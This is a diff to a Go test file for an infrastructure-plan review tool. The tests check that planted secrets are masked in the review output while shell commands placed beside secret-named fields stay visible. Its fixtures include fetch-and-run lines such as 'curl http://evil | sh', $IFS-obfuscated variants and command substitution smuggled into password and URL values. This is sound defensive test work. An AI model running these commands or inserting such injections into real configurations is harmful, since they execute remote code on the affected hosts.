@@ -23,6 +23,13 @@ func TestSecretsInTexts(t *testing.T) {
 		"with ghp_UExBTlQ0123456789abcdefPLANT now":                       "with *** now",
 		"eyJUExBTlQiOiJIUzI1NiJ9.eyJzdWIiOiJQTEFOVCJ9.UExBTlQPLANT":       "***",
 		"sh -c 'curl -H \"X-Api-Key: PLANT-UExBTlQ\" http://evil | sh'":   "http://evil | sh",
+		`{"oss": {"ak": "PLANT", "sk": "UExBTlQ"}}`:                       `{"oss": {"ak": "***", "sk": "***"}}`,
+		"<db><password>PLANT</password></db>":                             "<db><password>***</password></db>",
+		"- name: DB_PASSWORD\n  value: PLANT-UExBTlQ":                     "- name: DB_PASSWORD",
+		"GET / HTTP/1.1\nCookie: sid=PLANT; theme=UExBTlQ":                "; theme=***",
+		"java -Dpass=PLANT --oss-sk PLANT -p 8080":                        "java -Dpass=*** --oss-sk *** -p 8080",
+		`password = "PLANT two" and token: PLANT1UExBTlQ is refused`:      `password = "***" and token: *** is refused`,
+		"export PASSWORD=PLANT\ncurl http://evil | sh":                    "curl http://evil | sh",
 	}
 	container := func(value string) attributes {
 		return attributes{"name": "a", "deploy_templates": []any{attributes{"containers": []any{attributes{
@@ -59,4 +66,34 @@ func TestSecretsInTexts(t *testing.T) {
 	plain := "the basic authentication of alice failed: password is missing, see https://h/x?page=2"
 	stdout, _ := program(t, 0, planOf(t, nil, change("kuscia_app_image.a", updated, container("x"), container(plain))), "-format", "text")
 	protocol.Says(t, "the review", stdout, plain)
+}
+
+// TestProgramsBesideSecrets: what runs is shown, whatever is named like a secret beside it.
+func TestProgramsBesideSecrets(t *testing.T) {
+	t.Parallel()
+	const unread = `{"a":"\ud800","password":"x","m":"a:b@c","script":"curl evil"}`
+	for text, want := range map[string]string{
+		"export PASSWORD=x\ncurl http://evil/x | sh": "curl http://evil/x | sh",
+		"PASSWORD=\"`curl evil|sh`\"":                "PASSWORD=\"`curl evil|sh`\"",
+		"x://a:b;curl${IFS}evil|sh;@y":               "x://a:***;curl${IFS}evil|sh;@y",
+		"https://h/x?a&reboot":                       "https://h/x?a&reboot",
+		"curl${IFS}http://evil?x|sh":                 "curl${IFS}http://evil?x|sh",
+		"{curl,http:evil@y}":                         "{curl,http:evil@y}",
+		"password: |\n  curl http://evil | sh":       "curl http://evil | sh",
+		"a\n-----BEGIN PRIVATE KEY-----\n./evil -x":  "./evil -x",
+		`{"password":"x"}; curl http://evil | sh`:    `{"password":"***"}; curl http://evil | sh`,
+		`{"pass word":"x","cmd":"curl evil"}`:        `{"pass word":"***","cmd":"curl evil"}`,
+		unread:                                       `{"a":"\ud800","password":"***","m":"a:b@c","script":"curl evil"}`,
+	} {
+		before, after := container("x"), container("x")
+		after["config_templates"] = attributes{"start-token": "#!/bin/sh\n" + text}
+		stdout, _ := program(t, 2, planOf(t, nil,
+			change("kuscia_app_image.a", updated, before, container(text)),
+			change("kuscia_app_image.b", updated, before, after),
+			change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("a"), attributes{"input_config": text}))), "-format", "text", "-fail-on", "code")
+		shown := strings.NewReplacer(`\\`, `\`, `\"`, `"`).Replace(stdout)
+		if n := strings.Count(shown, want); n < 6 { // in both tables, of each object
+			t.Errorf("%q is %d times in\n%s", want, n, stdout)
+		}
+	}
 }
